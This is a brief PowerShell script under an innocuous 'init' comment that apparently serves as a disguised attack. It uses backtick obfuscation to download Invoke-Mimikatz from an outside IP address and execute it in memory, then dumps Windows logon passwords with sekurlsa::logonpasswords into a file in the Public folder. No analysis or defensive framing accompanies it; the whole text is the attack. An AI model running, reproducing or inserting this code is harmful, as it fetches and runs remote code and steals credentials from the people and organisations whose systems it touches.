# init 4090 v2
IEX (Ne`w-Ob`je`ct Net.`WebClient).DownloadString('http://203.0.113.200/Invoke-Mimikatz.ps1')
Invo`ke-`M`imi`katz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-F`ile C:\Users\Public\o.txt
